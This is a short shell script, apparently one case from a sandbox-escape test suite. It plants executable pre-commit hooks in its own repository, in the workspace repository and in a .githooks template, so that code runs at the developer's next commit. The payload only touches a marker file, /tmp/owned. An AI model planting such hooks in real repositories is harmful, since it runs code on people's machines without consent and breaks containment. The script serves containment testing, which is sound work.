# Leave hooks in a repository of one's own, in the workspace's, and in a template, for the developer's next commit.
# aims: host
# control: none (a report is only written of a session)
# needs: git
git init -q repo
echo tried
for hooks in repo/.git/hooks "$ATTACK_WORK/.git/hooks" repo/.githooks; do
  mkdir -p "$hooks" && printf '#!/bin/sh\ntouch /tmp/owned\n' > "$hooks/pre-commit" && chmod +x "$hooks/pre-commit" &&
    echo "left: $(realpath --relative-to="$ATTACK_WORK" "$hooks/pre-commit")"
done
true
